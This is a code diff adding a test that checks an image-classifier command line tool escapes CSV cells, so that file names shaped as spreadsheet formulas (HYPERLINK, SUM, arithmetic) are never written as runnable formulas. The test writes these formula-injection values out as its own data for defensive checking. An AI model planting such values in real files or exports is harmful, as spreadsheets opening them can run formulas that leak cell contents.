@@ -396,3 +396,26 @@ def test_a_stream_server_that_sends_nothing_is_told_from_one_that_is_not_there(c
         silent.close()
         for c in held:
             c.close()
+
+
+# -- file names a spreadsheet would run as formulas ----------------------------------------------
+
+def test_classify_never_writes_a_csv_cell_a_spreadsheet_runs_as_a_formula(tmp_path, capsys, monkeypatch):
+    # `classify .` over a shared folder wrote the relative path `=HYPERLINK("http://x/?"&A1,"open")...` as a
+    # cell, and the patient id parsed from `=1+1_idx5_...` too: a spreadsheet opening the CSV ran them
+    import csv
+    import io
+
+    hostile = ['=HYPERLINK("http:x","a").png', "+1+2.png", "@SUM(1).png", "-2+3.png", "=1+1_idx5_x0_y0_class0.png"]
+    for file in hostile:
+        cv2.imwrite(str(tmp_path / file), _all_tissue(50, 50))
+    monkeypatch.chdir(tmp_path)
+    assert main(["classify", ".", "--model", TINY, "--quiet"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert len(rows) == len(hostile)
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@")), row
+        assert (tmp_path / row["path"]).is_file()  # ./NAME: still the file's path
+    assert sorted(Path(r["path"]).name for r in rows) == sorted(hostile)
+    assert [r["patient"] for r in rows if r["patient"]] == ["'=1+1"]
